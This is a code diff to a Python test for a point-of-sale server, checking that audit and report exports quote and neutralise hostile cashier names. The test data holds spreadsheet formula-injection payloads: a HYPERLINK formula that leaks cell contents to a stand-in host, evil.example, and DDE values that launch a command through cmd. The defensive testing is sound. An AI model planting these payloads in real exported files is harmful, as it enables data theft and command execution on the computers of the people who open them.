@@ -10,6 +10,7 @@ import sys
 import requests
 
 from tests.support.server import init_demo_server
+from tests.support.times import iso_ago
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
@@ -33,7 +34,7 @@ def test_audit_and_reports_quote_and_neutralise_hostile_names(tmp_path):
     server = init_demo_server(tmp_path).start()
     try:
         device = server.enrol("cashier", name='=HYPERLINK("http://evil.example","till")')
-        ops = [{"id": f"csv-op-{i:04d}", "type": "sale", "at": "2026-11-20T10:00:00+00:00", "cashier": name,
+        ops = [{"id": f"csv-op-{i:04d}", "type": "sale", "at": iso_ago(days=6), "cashier": name,
                 "payload": {"card_number": "10003", "amount": 1000}} for i, name in enumerate(HOSTILE)]
         r = requests.post(f"{server.url}/api/v1/operations:batch", json={"operations": ops}, timeout=10,
                           headers={"Authorization": f"Bearer {device['device_key']}"})
